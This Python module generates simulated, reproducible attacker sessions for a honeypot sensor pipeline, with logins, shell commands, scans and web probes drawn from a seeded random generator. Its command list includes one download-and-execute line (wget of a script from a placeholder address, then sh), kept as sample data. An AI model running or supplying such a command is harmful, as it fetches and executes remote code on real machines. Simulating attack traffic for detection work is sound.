"""What attackers did in a simulated year, session by session; the same number always gives the same session. Pure.

A few sensors, sources, names and passwords make most of it, many are seen once or twice; some things are rare all year,
and one campaign filled a week long ago and was never seen again: each is hard for another kind of list.
"""

from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache

from sensor_wire.v1.event import EventKind

PER_SESSION = 5
"""Events of each session."""
OLD = range(400, 420)
"""When the campaign was, in thousandths of the year."""
RARE_PORT, RARE_WORD, OLD_WORD, COMMON_WORD, MEDIUM_WORD, SOME_WORD = (
    8545,
    "kinsing",
    "abadcafe",
    "root",
    "nproc",
    "m1kr0tik",
)
NAMES = ("root", "root", "root", "admin", "ubuntu", "oracle", "postgres", "pi", "test", "user", "git", "m1kr0tik")
COMMANDS = (
    *("uname -a", "cat /proc/cpuinfo", "free -m", "ls -la /var/run", "w", "crontab -l", "nproc; lscpu", "id"),
    *("cd /tmp && wget http://203.0.113.5/x.sh -O x.sh && sh x.sh", "echo -e '\\x41\\x42' > /tmp/.probe"),
)
SSH = (EventKind.CONNECTION, EventKind.LOGIN, EventKind.LOGIN, EventKind.LOGIN, EventKind.CLOSED)
SHELL = (EventKind.CONNECTION, EventKind.LOGIN, EventKind.COMMAND, EventKind.COMMAND, EventKind.CLOSED)
SCAN = (EventKind.SCAN, EventKind.CONNECTION, EventKind.CONNECTION, EventKind.SCAN, EventKind.CONNECTION)
WEB = (EventKind.CONNECTION, EventKind.REQUEST, EventKind.REQUEST, EventKind.REQUEST, EventKind.CLOSED)
BREAK = (EventKind.CONNECTION, EventKind.REQUEST, EventKind.EXPLOIT, EventKind.FILE, EventKind.CLOSED)
SEVERITY = {
    EventKind.CLOSED: 0,
    EventKind.CONNECTION: 1,
    EventKind.SCAN: 2,
    EventKind.REQUEST: 2,
    EventKind.LOGIN: 2,
    EventKind.COMMAND: 3,
    EventKind.FILE: 3,
    EventKind.EXPLOIT: 4,
}


@dataclass(frozen=True)
class Visit:
    """What all events of one session share, and the kinds of its events in their order.

    Attributes:
        place: which sensor, from 0 to below 1: small numbers come most often.
        source: an address as the database keeps it, in hexadecimal.
        attempts: what was tried in each event: a name and password, a command, a path.
    """

    place: float
    service: str
    protocol: str
    port: int
    source: str
    kinds: tuple[EventKind, ...]
    attempts: Sequence[tuple[str, str]]


@lru_cache(maxsize=4)
def visit(number: int, thousandth: int) -> Visit:
    """Session `number`, in a thousandth of the year."""
    dice = _Dice(number)
    place, kind = dice.fraction() ** 3, dice.below(10_000)
    if thousandth in OLD and kind < 5000:  # noqa: PLR2004 - half of what came then
        return Visit(
            place, "ethereum", "tcp", 30303, _ipv4(100 << 24 | 64 << 16 | dice.below(256)), SSH, _logins(dice, OLD_WORD)
        )
    source = _source(dice)
    if kind < 4500:  # noqa: PLR2004
        return Visit(place, "cowrie", "tcp", 22, source, SSH, _logins(dice))
    if kind < 6000:  # noqa: PLR2004
        return Visit(place, "cowrie", "tcp", 23 if dice.below(3) else 22, source, SHELL, _commands(dice))
    if kind < 8500:  # noqa: PLR2004
        port = int(dice.fraction() ** 6 * 65_000) + 1
        return Visit(place, "recon", "tcp" if dice.below(4) else "udp", port, source, SCAN, _ports(port))
    if kind < 9990:  # noqa: PLR2004
        return Visit(place, "web", "tcp", 443 if dice.below(4) else 8080, source, WEB, _paths(dice))
    return Visit(place, "conpot", "tcp", RARE_PORT, source, BREAK, [("GET", f"/{RARE_WORD}.so")] * PER_SESSION)


class _Dice:
    """Numbers that look random and depend on one number only (splitmix64)."""

    def __init__(self, seed: int) -> None:
        self._state = seed

    def below(self, end: int) -> int:
        return self._next() % end

    def fraction(self) -> float:
        return self._next() / (1 << 64)

    def _next(self) -> int:
        self._state = (self._state + 0x9E3779B97F4A7C15) & 0xFFFF_FFFF_FFFF_FFFF
        mixed = (self._state ^ self._state >> 30) * 0xBF58476D1CE4E5B9 & 0xFFFF_FFFF_FFFF_FFFF
        mixed = (mixed ^ mixed >> 27) * 0x94D049BB133111EB & 0xFFFF_FFFF_FFFF_FFFF
        return mixed ^ mixed >> 31


def _source(dice: _Dice) -> str:
    kind, index = dice.below(1000), int(dice.fraction() ** 4 * 65_536)
    if kind < 20:  # noqa: PLR2004 - some speak IPv6
        return f"20010db8{index % 64:08x}{index:016x}"
    if kind < 25:  # noqa: PLR2004 - a network that comes now and then, all year
        return _ipv4(192 << 24 | 88 << 16 | 99 << 8 | index % 256)
    network = (198 << 24 | 18 << 16, 198 << 24 | 19 << 16, 45 << 24 | 95 << 16, 185 << 24 | 220 << 16)[kind % 4]
    return _ipv4(network | index)


def _ipv4(number: int) -> str:
    return f"00000000000000000000ffff{number:08x}"


def _logins(dice: _Dice, word: str | None = None) -> list[tuple[str, str]]:
    names = NAMES if dice.below(20) else NAMES[-1:]
    words, start = (word or _password(dice), word or _password(dice)), dice.below(len(NAMES))
    return [(names[(start + step) % len(names)], words[step % 2]) for step in range(PER_SESSION)]


def _password(dice: _Dice) -> str:
    return f"pass{int(dice.fraction() ** 3 * 20_000)}" if dice.below(3) else f"x{dice.below(1 << 40):010x}"


def _commands(dice: _Dice) -> list[tuple[str, str]]:
    start = dice.below(len(COMMANDS))
    return [("root", COMMANDS[(start + step) % len(COMMANDS)]) for step in range(PER_SESSION)]


def _ports(port: int) -> list[tuple[str, str]]:
    return [("tcp", f"{(port + step * 7) % 65_536}") for step in range(PER_SESSION)]


def _paths(dice: _Dice) -> list[tuple[str, str]]:
    page, number = dice.below(3000), dice.below(50)
    return [("GET", f"/wp-content/{page}/index.php?id={number + step}") for step in range(PER_SESSION)]
